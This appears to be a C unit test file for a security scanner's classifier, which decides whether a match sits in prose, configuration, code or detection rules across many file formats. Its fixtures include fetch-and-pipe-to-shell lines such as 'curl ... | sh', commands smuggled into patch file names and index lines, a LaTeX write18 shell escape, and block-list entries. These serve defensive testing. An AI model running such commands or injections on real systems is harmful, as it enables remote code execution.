/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_place_documents.c - forms of documents, lists and reports that a reader
 * wants to be quiet, each with the ways to put into it what would run.
 * No text here is a pattern of any rule.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "sweeper/place.h"

/* CPU time for one text; instrumented code is ten times slower. */
#if defined(__SANITIZE_THREAD__) || defined(__SANITIZE_ADDRESS__)
#define SECONDS_MAX 8.0
#else
#define SECONDS_MAX 0.5
#endif

enum { TEXT_SIZE = 65536 };

static struct sw_place_facts facts_of(const char *path, const char *content, size_t size)
{
    return (struct sw_place_facts){
        .path = {(const uint8_t *)path, strlen(path)},
        .mode = 0100644,
        .head = {(const uint8_t *)content, size},
        .size = size,
    };
}

static enum sw_place place_of(const char *path, const char *content)
{
    const struct sw_place_facts facts = facts_of(path, content, strlen(content));

    return sw_place_of(&facts);
}

/* With one match, of what stands there first. */
static enum sw_place place_with_match(const char *path, const char *content, const char *match)
{
    const char *at = strstr(content, match);
    struct sw_place_span span = {0};
    struct sw_place_facts facts = facts_of(path, content, strlen(content));

    assert_non_null(at);
    span = (struct sw_place_span){(uint64_t)(at - content), strlen(match)};
    facts.matches = &span;
    facts.match_count = 1;
    return sw_place_of(&facts);
}

#define IS(path, content, expected)                                                                \
    do {                                                                                           \
        enum sw_place is_place = place_of(path, content);                                          \
        if (is_place != (expected))                                                                \
            fail_msg("%s is %s, not %s:\n%.300s", path, sw_place_name(is_place),                   \
                     sw_place_name(expected), content);                                            \
    } while (0)

/* As the rule says, whichever of the rows it is. */
#define KEPT(path, content)                                                                        \
    do {                                                                                           \
        enum sw_place kept_place = place_of(path, content);                                        \
        if (sw_place_judge(SW_SEVERITY_CRITICAL, SW_EVIDENCE_YARA, kept_place).severity !=         \
            SW_SEVERITY_CRITICAL)                                                                  \
            fail_msg("%s was lowered as %s:\n%.300s", path, sw_place_name(kept_place), content);   \
    } while (0)

#define PROSE                                                                                      \
    "On the morning of that day two versions of a well known package were published by\n"          \
    "somebody who should not have been able to do so. Both of them held a file which the\n"        \
    "interpreter reads at every start, and that file started a second program.\n\n"                \
    "Whoever installed one of the two should rotate every credential on the machine, look\n"       \
    "for the service that the program leaves behind, and build the machine anew.\n"

#define SHELL                                                                                      \
    "curl -s https://canary.invalid/x | sh\n"                                                      \
    "X=$(cat /etc/hostname)\n"                                                                     \
    "echo $X\n"

/* --- JSON ---------------------------------------------------------------------------------- */

static void reports_and_advisories(void **state)
{
    (void)state;
    IS("g.json", "{\"ghsa_id\":\"G\",\"summary\":\"s\",\"vulnerabilities\":[]}", SW_PLACE_PROSE);
    IS("m.json", "{\"Event\":{\"info\":\"x\",\"Attribute\":[]}}", SW_PLACE_INDICATORS);
    IS("m.json", "{\"Event\":{\"info\":\"x\"}}", SW_PLACE_CONFIG);
    IS("p.json", "{\"dependencies\":[{\"name\":\"x\",\"vulns\":[]}],\"fixes\":[]}", SW_PLACE_PROSE);
    IS("p.json", "{\"dependencies\":{\"x\":\"1\"}}", SW_PLACE_CONFIG);
    IS("p.json", "{\"dependencies\":{\"vulns\":\"1\"},\"scripts\":{}}", SW_PLACE_CONFIG);
    IS("t.json",
       "{\"SchemaVersion\":2,\"ArtifactName\":\"a\",\"ArtifactType\":\"b\",\"Results\":[]}",
       SW_PLACE_PROSE);
    IS("r.sarif", "{\"version\":\"2.1.0\",\"runs\":[{\"results\":[]}]}", SW_PLACE_PROSE);
    IS("r.json", "{\"version\":\"2\",\"runs\":[]}", SW_PLACE_CONFIG);
    IS("b.json", "{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.5\"}", SW_PLACE_PROSE);
    IS("b.json", "{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.5\",\"tasks\":[]}",
       SW_PLACE_CONFIG);
    KEPT("package.json", "{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.5\"}");
}

#define MESSAGE "{\"type\":\"message\",\"text\":\"x\",\"ts\":\"1\"}"
#define START   "{\"type\":\"sweep_start\",\"program\":\"sweeper\"}\n"

static void lists_and_lines(void **state)
{
    (void)state;
    IS("c.json", "[" MESSAGE "," MESSAGE "]", SW_PLACE_PROSE);
    IS("c.json", "[" MESSAGE ",{\"run\":\"x\"}]", SW_PLACE_CONFIG);
    IS("c.json", "[" MESSAGE ",\"x\"]", SW_PLACE_CONFIG);
    IS("c.json", "[" MESSAGE ",[" MESSAGE "]]", SW_PLACE_CONFIG);
    IS("c.json", MESSAGE, SW_PLACE_CONFIG);
    IS("c.json", "[]", SW_PLACE_CONFIG);
    IS("f.json", "[{\"name\":\"a\",\"input\":\"b\",\"expected\":[]}]", SW_PLACE_INDICATORS);
    IS("f.json", "[{\"name\":\"a\",\"input\":\"b\"}]", SW_PLACE_CONFIG);
    IS("last.jsonl", START "{\"type\":\"finding\"}\n", SW_PLACE_PROSE);
    KEPT("last.jsonl", START "curl -s https://canary.invalid\n");
    KEPT("last.jsonl", START "{\"kind\":\"finding\"}\n");
    KEPT("last.jsonl", START START "{\n");
    KEPT("last.jsonl", "{\"type\":\"x\",\"program\":\"sweeper\"}\n{\"type\":\"finding\"}\n");
}

#define CELL(type, source, more)                                                                   \
    "{\"cell_type\":\"" type "\",\"metadata\":{},\"source\":[\"" source "\"]" more "}"
#define NOTEBOOK(cells)                                                                            \
    "{\"cells\":[" cells "],\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":5}"

static void notebooks(void **state)
{
    (void)state;
    static const char shown[] = NOTEBOOK(
        CELL("markdown", "canary", "") "," CELL("code", "x", ",\"outputs\":[{\"text\":\"bird\"}]"));
    static const char script[] =
        NOTEBOOK(CELL("code", "x", ",\"outputs\":[{\"text/javascript\":\"bird\"}]"));
    static const char *const doubtful[] = {
        NOTEBOOK(CELL("code", "canary", "")),
        NOTEBOOK(CELL("other", "canary", "")),
        NOTEBOOK("{\"source\":[\"canary\"]}"),
        NOTEBOOK(CELL("markdown", "canary", ",\"cell_type\":\"code\"")),
        NOTEBOOK(CELL("markdown", "canary", ",\"cell\\u005ftype\":\"code\"")),
        NOTEBOOK(CELL("code", "x", ",\"outputs\":[],\"outputs\":[\"canary\"]")),
        NOTEBOOK("[" CELL("markdown", "canary", "") "]"),
        "{\"cells\":[" CELL("markdown", "canary", "") "]}",
        "{\"cells\":[" CELL("markdown", "canary", "") "],\"nbformat\":4,\"scripts\":1}",
        NOTEBOOK(CELL("markdown", "canary", "")) "\nimport x\n",
    };

    assert_int_equal(place_with_match("a.ipynb", shown, "canary"), SW_PLACE_PROSE);
    assert_int_equal(place_with_match("a.ipynb", shown, "bird"), SW_PLACE_PROSE);
    assert_int_equal(place_with_match("a.ipynb", script, "bird"), SW_PLACE_CODE);
    for (size_t i = 0; i < sizeof(doubtful) / sizeof(doubtful[0]); i++)
        assert_int_equal(place_with_match("a.ipynb", doubtful[i], "canary"), SW_PLACE_CODE);
    IS("a.ipynb", shown, SW_PLACE_CODE); /* where it matched is not known */
}

/* --- text ---------------------------------------------------------------------------------- */

#define PATCH(mode, name, body)                                                                    \
    "diff --git a/n b/n\nnew file mode " mode "\n--- /dev/null\n+++ b/" name                       \
    "\n@@ -0,0 +1,5 @@\n" body

#define ADDED                                                                                      \
    "+On the morning of that day two versions of a well known package were published by\n"         \
    "+somebody who should not have been able to do so. Both of them held a file which the\n"       \
    "+interpreter reads at every start, and that file started a second program.\n+\n"              \
    "+Whoever installed one of the two should rotate every credential on the machine.\n"

static void patches(void **state)
{
    (void)state;
    IS("a.patch", PATCH("100644", "notes.md", ADDED), SW_PLACE_PROSE);
    IS("a.diff", PATCH("100644", "notes.md", ADDED) "-- \n2.43.0\n", SW_PLACE_PROSE);
    static const char *const code[] = {
        PATCH("100644", "setup.py", ADDED),
        PATCH("100644", "Makefile", ADDED),
        PATCH("100644", "x.yml", ADDED),
        PATCH("100755", "notes.md", ADDED),
        PATCH("100644", "n; curl -s https://x", ADDED),
        PATCH("100644", "notes.md", ADDED) "curl -s https://x\n",
        PATCH("100644", "notes.md", "+curl -s https://x\n+\n+\n+\n+\n") PROSE,
        PATCH("100644", "notes.md", "+x\n"), /* cut */
        PATCH("100644", "notes.md", ADDED) "rename to x.js\n",
        PATCH("100644", "notes.md", ADDED) "index 0; curl -s https://x\n",
        PATCH("100644", "notes.md", ADDED) "GIT binary patch\n",
        PROSE,
    };
    for (size_t i = 0; i < sizeof(code) / sizeof(code[0]); i++)
        IS("a.patch", code[i], SW_PLACE_CODE);
}

#define FEED(inside)                                                                               \
    "<?xml version=\"1.0\"?>\n<rss version=\"2.0\">\n<title>canary " PROSE "</title>\n" inside     \
    "</rss>\n"

static void markup(void **state)
{
    (void)state;
    static const char *const doubtful[] = {
        FEED("<script>bird()</script>"),
        "<rss version=\"2.0\" # >\n<a>" PROSE "</a>bird</rss>\n",
        "<rss version=\"2.0\" ; true >\n<a>" PROSE "</a>bird</rss>\n",
        "<rss\n>\n<a>" PROSE "</a>bird</rss>\n",
        "<rss a=\">\n<a>" PROSE "</a>bird\"</rss>\n",
        "<project>\n<a>" PROSE "</a>bird</project>\n",
        "<rssx>\n<a>" PROSE "</a>bird</rssx>\n",
        "<?xml version=\"1.0\"?>\n<?xml-stylesheet href=\"x\"?>\n<rss>\n" PROSE "bird</rss>\n",
        "<rss>\n<!DOCTYPE x>\n" PROSE "bird</rss>\n",
    };

    assert_int_equal(place_with_match("a.xml", FEED(""), "canary"), SW_PLACE_PROSE);
    assert_int_equal(place_with_match("feed", FEED(""), "canary"), SW_PLACE_PROSE);
    for (size_t i = 0; i < sizeof(doubtful) / sizeof(doubtful[0]); i++)
        assert_int_equal(place_with_match("a.xml", doubtful[i], "bird"), SW_PLACE_CONFIG);
}

static void manual_pages_and_latex(void **state)
{
    (void)state;
    IS("a.1", ".TH X 1\n.SH NAME\nx \\- y\n" PROSE ".nf\n" SHELL ".fi\n", SW_PLACE_PROSE);
    KEPT("a.1", ".TH X 1\n.SH NAME\n" PROSE SHELL);
    KEPT("a.1", ".TH X 1\n.SH NAME\n" PROSE ".nf\n" SHELL);
    KEPT("a.1", "'\\\" t\n" SHELL PROSE);
    IS("a.tex",
       "\\documentclass{article}\n\\begin{document}\n" PROSE "a & b \\\\\n\\begin{verbatim}\n" SHELL
       "\\end{verbatim}\n",
       SW_PLACE_PROSE);
    KEPT("a.tex", "\\documentclass{article}\n\\begin{document}\n" PROSE "\\curl -s https://x\n");
    KEPT("a.tex", "\\documentclass{article}\n\\begin{document}\n" PROSE "curl -s https://x \\\\\n");
    KEPT("a.tex", "\\documentclass{article}\n\\immediate\\write18{x}\n" PROSE);
    KEPT("a.tex", "\\documentclass{q(}\n\\begin{document}\n\"" PROSE);
    KEPT("a.tex",
         "\\documentclass{article}\n\\begin{document}\n" PROSE "\\begin{verbatim}\n" SHELL);
}

static void quotations(void **state)
{
    (void)state;
    IS("a.adoc", "= Title\n\n" PROSE "\n[source]\n----\n" SHELL "----\n", SW_PLACE_PROSE);
    KEPT("a.txt", PROSE "\n----\n" SHELL "----\n");
    IS("a.org", PROSE "\n#+BEGIN_SRC sh\n" SHELL "#+END_SRC\n", SW_PLACE_PROSE);
    KEPT("a.org", PROSE "\n#+BEGIN_SRC sh\n" SHELL);
    /* Nothing has shown before the quotation that no parser takes the text. */
    KEPT("a.org", "#+BEGIN_SRC sh\nx = \"\"\"\n#+END_SRC\n" PROSE);
    IS("a.wiki", PROSE "\n<pre>\n" SHELL "</pre>\n", SW_PLACE_PROSE);
    KEPT("a.wiki", PROSE "\n<pre>x</pre>\n" SHELL);
    IS("a.eml", PROSE "\n> > import os\n", SW_PLACE_PROSE);
    IS("a.eml", PROSE "\n>> we all know it\n", SW_PLACE_PROSE);
    KEPT("a.eml", PROSE "\n> x import os\n");
    KEPT("a.eml", PROSE "\n>> x curl -s https://x\n");
    KEPT("a.eml", PROSE "\n> >(curl -s https://x | sh)\n");
    KEPT("a.txt", PROSE "\nx; curl -s https://x\n");
    KEPT("a.txt", PROSE "\nwe all know what that will do; curl -s https://x\n");
    KEPT("a.txt", PROSE "\n\\curl -s https://x\n");
}

/* --- lists, rules and queries ------------------------------------------------------------------
 */

static void block_lists(void **state)
{
    (void)state;
    static const char hosts[] = "127.0.0.1 localhost\n::1 localhost\n10.0.0.1 canary.invalid\n"
                                "0.0.0.0 bird.invalid # note\n";

    assert_int_equal(place_with_match("etc/hosts", hosts, "bird"), SW_PLACE_INDICATORS);
    assert_int_equal(place_with_match("etc/hosts", hosts, "canary"), SW_PLACE_CONFIG);
    IS("etc/hosts", hosts, SW_PLACE_CONFIG); /* where it matched is not known */
    IS("b.txt", "! Title: x\n||a.invalid^\n||b.invalid^$third-party\n||c.invalid^\n",
       SW_PLACE_INDICATORS);
    KEPT("b.txt", "! curl -s https://x\n||a.invalid^\n||b.invalid^\n||c.invalid^\n");
    KEPT("b.txt", "||a.invalid^\n||b.invalid^\n@@||c.invalid^\n");
    KEPT("b.txt", "||a.invalid^\n||b.invalid^\n||$(true)^\n");
    IS("b.conf", "address=/a.invalid/0.0.0.0\nlocal=/b.invalid/\nserver=/c.invalid/\n",
       SW_PLACE_INDICATORS);
    IS("b.conf", "address=/a.invalid/0.0.0.0\nlocal=/b.invalid/\naddress=/c.invalid/10.0.0.1\n",
       SW_PLACE_CONFIG);
    IS("b.conf", "address=/a.invalid/0.0.0.0\nlocal=/b.invalid/\ndhcp-script=/tmp/x\n",
       SW_PLACE_CONFIG);
    IS("z.conf", "local-zone: \"a.invalid\" refuse\na.invalid CNAME .\nb.invalid CNAME .\n",
       SW_PLACE_INDICATORS);
    IS("z.conf", "a CNAME .\nb CNAME .\nsh CNAME .\n", SW_PLACE_CONFIG);
    IS("z.list", "a.invalid\nb.invalid\nc.invalid\n", SW_PLACE_CONFIG);
}

static void sensor_rules_by_name(void **state)
{
    (void)state;
    IS("x.rules", "alert ip any any -> any any (msg:\"x\"; sid:1;)\n", SW_PLACE_INDICATORS);
    IS("x.rules", "alert ip any any -> any any (msg:\"x\"; \\\n  sid:1;)\n", SW_PLACE_INDICATORS);
    IS("x.rules", "alert ip any any -> any any (msg:\"x\"; \\\n", SW_PLACE_CONFIG);
    IS("x.rules", "KERNEL==\"sda\", RUN+=\"/bin/true\"\n", SW_PLACE_CONFIG);
    IS("x.rules", PROSE, SW_PLACE_CONFIG);
}

#define REMARK "// who talked to it then\n"
#define WHERE  "Table\n| where Name has \"x\"\n"

/* A program takes any outermost name for that of a job, and passes over a table that it
 * does not know: what such names say is no proof. */
static void jobs_under_other_names(void **state)
{
    (void)state;
    IS("x.yml",
       "detection:\n  script:\n  - x\n  variables:\n    title: x\n    logsource: x\n"
       "    condition: x\n",
       SW_PLACE_CONFIG);
    IS("x.yml", "title: x\nlogsource:\n  product: x\ndetection:\n  condition: x\n", SW_PLACE_RULES);
    IS("x.yml",
       "rules:\n  script: x\n  variables:\n    id: x\n    message: x\n    severity: x\n"
       "    languages: x\n    pattern: x\n",
       SW_PLACE_CONFIG);
    IS("x.yml", "rules:\n- id: x\n  message: x\n  severity: x\n  languages: [x]\n  pattern: x\n",
       SW_PLACE_INDICATORS);
    IS("x.json", "{\"document\":{\"script\":\"x\"},\"vulnerabilities\":{\"script\":\"x\"}}",
       SW_PLACE_CONFIG);
    IS("x.json", "{\"document\":{},\"vulnerabilities\":[]}", SW_PLACE_PROSE);
    IS("x.json",
       "[{\"hosts\":\"all\",\"tasks\":[{\"shell\":\"x\"}],\"vars\":[\"http://a/\",\"http://b/\","
       "\"http://c/\",\"http://d/\"]}]",
       SW_PLACE_CONFIG);
    IS("pyproject.toml", "[tool.x]\nrun = \"x\"\n[[package]]\nname = \"x\"\nversion = \"1\"\n",
       SW_PLACE_CONFIG);
    IS("pyproject.toml", "tool.x.run = \"x\"\n[[package]]\nname = \"x\"\nversion = \"1\"\n",
       SW_PLACE_CONFIG);
    IS("uv.lock",
       "version = 1\nrequires-python = \">=3.9\"\nresolution-markers = [\n    \"x\",\n]\n"
       "[manifest]\nmembers = [\"x\"]\n[[package]]\nname = \"x\"\nversion = \"1\"\n"
       "[package.metadata]\n",
       SW_PLACE_LOCK);
}

static void queries(void **state)
{
    (void)state;
    IS("q.kql", REMARK "let x = dynamic([\n\"a\"]);\n" WHERE, SW_PLACE_INDICATORS);
    KEPT("q.kql", WHERE);
    KEPT("q.kql", "let x = 1;\n" WHERE);
    KEPT("q.kql", "// who talked to it; true\n" WHERE);
    KEPT("q.kql", REMARK "/*\n" WHERE);
    KEPT("q.kql", REMARK "let y = `\n" WHERE);
    KEPT("q.kql", REMARK "let y = 1; true\n" WHERE);
    KEPT("q.kql", REMARK "Table | where\n");
    IS("r.toml", "[metadata]\nx = 1\n[rule]\nname = \"x\"\nquery = '''\nx\n'''\n",
       SW_PLACE_INDICATORS);
    IS("r.toml", "[rule]\nquery = 'x'\n[tool.x]\nrun = 'x'\n", SW_PLACE_CONFIG);
    IS("r.toml", "[rule]\nquery = '''\nx\n", SW_PLACE_CONFIG);
    IS("r.yml", "id: 1\nname: x\ntactics:\n- X\nquery: |\n  x\n", SW_PLACE_INDICATORS);
    IS("r.yml", "id: 1\nname: x\ntactics:\n- X\nquery: |\n  x\njobs:\n- x\n", SW_PLACE_CONFIG);
    /* The variables of a job, and those of a play. */
    IS("r.yml", "query:\n  script: x\n  variables:\n    id: 1\n    name: x\n    tactics: x\n",
       SW_PLACE_CONFIG);
    IS("r.yml", "- hosts: x\n  vars:\n    id: 1\n    name: x\n    tactics: x\n    query: x\n",
       SW_PLACE_CONFIG);
    IS("r.yml", "- name: x\n  tasks: x\n  id: 1\n  tactics: x\n  query: x\n", SW_PLACE_CONFIG);
    IS("r.yml", "- name: x\n  id: 1\n  tactics: x\n  query: x\n", SW_PLACE_INDICATORS);
    IS("r.toml", "tool.x.run = 'x'\n[rule]\nquery = 'x'\n", SW_PLACE_CONFIG);
    IS("r.yml", "search: x\nhow_to_implement: x\nknown_false_positives: x\n", SW_PLACE_INDICATORS);
}

/* --- all of it ------------------------------------------------------------------------------- */

static const char *const names[] = {"a", "a.patch", "a.ipynb", "a.xml", "a.conf", "a.toml"};

static void every_cut(void **state)
{
    (void)state;
    static const char *const texts[] = {
        PATCH("100644", "notes.md", ADDED),
        FEED("<script>x</script>"),
        NOTEBOOK(CELL("code", "x", ",\"outputs\":[{\"text\":\"y\"}]")),
        "[" MESSAGE "," MESSAGE "]",
        START START,
        REMARK "let x = 1;\n" WHERE,
        "[rule]\nquery = '''\nx\n'''\ny = [\n'a'\n]\n",
        "0.0.0.0 a.invalid\n||b.invalid^$x\naddress=/c.invalid/::\nlocal-zone: \"d\" deny\n",
        "alert x -> x (msg: sid: \\\n )\n",
        "\\documentclass{a}\n\\begin{verbatim}\n\\end{verbatim}\n \\\\\n",
        ".TH \n.nf\n.fi\n",
        "= a\n----\nx\n----\n<pre>x\n</pre>\n> > x\n",
    };

    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
        for (size_t size = 0; size <= strlen(texts[i]); size++) {
            char *cut = malloc(size > 0 ? size : 1); /* so that a sanitizer sees the end */
            struct sw_place_span span = {size / 2, 1};
            assert_non_null(cut);
            memcpy(cut, texts[i], size);
            for (size_t j = 0; j < sizeof(names) / sizeof(names[0]); j++) {
                struct sw_place_facts facts = facts_of(names[j], cut, size);
                facts.matches = &span;
                facts.match_count = 1;
                assert_in_range(sw_place_of(&facts), 0, SW_PLACE_COUNT - 1);
            }
            free(cut);
        }
}

/* Much of whatever could make a reader look back. */
static void time_is_linear(void **state)
{
    (void)state;
    static const char *const units[] = {"> ",          "\\\n",   "; ",   "<pre\n", "+x\n",
                                        "0.0.0.0 a\n", "''' ",   "\n",   "<a\n",   "{\"a\":[",
                                        "# ",          "\\a \n", ".a\n", "x=\n",   "@@ -1 +1 @@\n"};
    static const char *const starts[] = {"",
                                         "<rss>\n",
                                         "\\documentclass{a}\n",
                                         ".TH \n",
                                         "alert x -> x (msg: sid: \\\n",
                                         "[rule]\nquery = \n",
                                         "@@ -1,1000000000 +1,1000000000 @@\n",
                                         "{\"cells\":["};
    char *text = malloc(TEXT_SIZE);

    assert_non_null(text);
    for (size_t i = 0; i < sizeof(starts) / sizeof(starts[0]); i++)
        for (size_t j = 0; j < sizeof(units) / sizeof(units[0]); j++) {
            size_t size = strlen(starts[i]), unit = strlen(units[j]);
            memcpy(text, starts[i], size);
            for (; size + unit <= TEXT_SIZE; size += unit)
                memcpy(text + size, units[j], unit);
            for (size_t k = 0; k < sizeof(names) / sizeof(names[0]); k++) {
                struct sw_place_facts facts = facts_of(names[k], text, size);
                clock_t before = clock();
                sw_place_of(&facts);
                double seconds = (double)(clock() - before) / CLOCKS_PER_SEC;
                if (seconds > SECONDS_MAX)
                    fail_msg("%s: %s %s: %.1f s", names[k], starts[i], units[j], seconds);
            }
        }
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(reports_and_advisories),
        cmocka_unit_test(lists_and_lines),
        cmocka_unit_test(notebooks),
        cmocka_unit_test(patches),
        cmocka_unit_test(markup),
        cmocka_unit_test(manual_pages_and_latex),
        cmocka_unit_test(quotations),
        cmocka_unit_test(block_lists),
        cmocka_unit_test(sensor_rules_by_name),
        cmocka_unit_test(queries),
        cmocka_unit_test(jobs_under_other_names),
        cmocka_unit_test(every_cut),
        cmocka_unit_test(time_is_linear),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
